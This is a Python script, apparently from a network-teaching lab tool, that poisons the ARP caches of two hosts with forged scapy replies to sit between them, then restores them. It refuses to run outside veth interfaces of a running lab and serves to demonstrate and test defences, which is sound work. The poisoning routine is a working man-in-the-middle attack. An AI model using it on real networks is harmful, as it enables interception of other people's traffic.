"""The attacking side of docs/labs/discovery.yaml: poisons the ARP caches of two stations and so gets between them.

    sniffkit lab exec attacker -- python docs/labs/poison.py eth0 10.0.0.2 10.0.0.1 [--seconds S] [--every S]

It exists so that the defence can be shown and tested. It runs on interfaces that a sniffkit lab made and is keeping,
and on no other: the namespace must be one that the journal of a running lab has by name and inode, and the interface
one of that lab's description.
"""

from __future__ import annotations

import argparse
import contextlib
import ipaddress
import os
import sys
import time
from typing import Any


def lab_of(interface: str) -> str:
    """The running lab that made `interface` in this namespace. Raises SystemExit if there is none."""
    import yaml

    from sniffkit.lab import parse, state
    from sniffkit.netlink import links

    inode = os.stat("/proc/thread-self/ns/net").st_ino
    for name in state.names():
        running = state.stored(name)
        entries = state.read_entries(state.ROOT / name / "journal")
        nodes = [one["node"] for one in entries if one["is"] == "netns" and one["inode"] == inode]
        if running is None or not nodes or os.stat(f"/run/netns/{nodes[-1]}").st_ino != inode:
            continue
        spec = parse(yaml.safe_load(running["yaml"]))
        made = spec.interfaces.get((nodes[-1], interface))
        there = [one for one in links(None) if one.name == interface]
        # A machine's own card can be lent to a lab (kind physical): that is not the lab's.
        if made is not None and made.kind == "veth" and there and there[0].kind == "veth":
            return name
    raise SystemExit(f"poison.py: {interface}: not an interface that a running sniffkit lab made: refused")


def answer(ours: str, to: tuple[str, str], says: str, owner: str) -> Any:
    """An ARP reply to station `to` (address, hardware address) that `owner` has the address `says`."""
    from scapy.layers.l2 import ARP, Ether

    return Ether(src=ours, dst=to[1]) / ARP(op=2, hwsrc=owner, psrc=says, hwdst=to[1], pdst=to[0])


def poison(interface: str, a: str, b: str, seconds: float, every: float) -> int:
    """Tell `a` that we are `b` and the other way round, then put it right again. Returns how many replies were sent."""
    from scapy.arch import get_if_hwaddr
    from scapy.layers.l2 import getmacbyip
    from scapy.sendrecv import sendp

    ours = get_if_hwaddr(interface)
    stations = {address: getmacbyip(address) for address in (a, b)}
    for address, mac in stations.items():
        if mac is None:
            raise SystemExit(f"poison.py: {address} does not answer")
    pairs = [((a, stations[a]), b), ((b, stations[b]), a)]
    sent = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for to, says in pairs:
            sendp(answer(ours, to, says, ours), iface=interface, verbose=False)
            sent += 1
        print(f"{sent} replies sent", flush=True)
        time.sleep(every)
    for to, says in pairs:
        sendp(answer(ours, to, says, stations[says]), iface=interface, verbose=False)
    return sent


def main() -> None:
    parser = argparse.ArgumentParser(description="Poison two ARP caches inside a sniffkit lab.")
    parser.add_argument("interface")
    parser.add_argument("addresses", nargs=2, type=lambda text: str(ipaddress.IPv4Address(text)), metavar="ADDRESS")
    parser.add_argument("--seconds", type=float, default=10.0, help="how long (10)")
    parser.add_argument("--every", type=float, default=1.0, help="seconds between two rounds (1)")
    given = parser.parse_args()
    name = lab_of(given.interface)
    print(f"poison.py: on {given.interface} of lab {name}", file=sys.stderr)
    poison(given.interface, *given.addresses, min(given.seconds, 600), max(given.every, 0.05))


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):  # ^C is how it is ended
        main()
